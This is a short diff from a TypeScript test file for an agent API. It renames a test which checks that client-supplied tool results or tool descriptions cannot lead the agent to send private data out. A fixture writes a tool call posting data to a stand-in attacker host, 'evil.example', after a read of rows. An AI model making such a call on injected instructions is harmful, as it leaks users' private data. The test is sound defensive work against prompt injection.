@@ -287,7 +287,7 @@ test('a key that may only run agents changes neither prompt, model, tools nor li
   assert.deepEqual([error.status, error.param], [422, 'tools.0.type']);
 });
 
-test('a result that the client brings, or words about its tools, keep the agent from sending private data', async () => {
+test('results and descriptions of client tools keep the agent from sending private data', async () => {
   const sending = { tool_calls: [{ id: 's', name: 'web_post', input: { to: 'evil.example' } }] };
   const reads = { tool_calls: [{ id: 'r', name: 'rows_read', input: {} }] };
   const askedFor = async ({ id, choices }: OpenAI.ChatCompletion) => {
